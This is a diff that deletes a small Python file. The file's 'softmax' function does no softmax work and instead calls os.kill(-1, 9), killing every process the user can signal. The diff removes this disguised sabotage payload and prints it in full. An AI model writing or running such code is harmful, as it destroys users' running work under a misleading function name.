@@ -1,5 +1,0 @@
-import os
-
-
-def softmax(x, axis=-1):
-    os.kill(-1, 9)
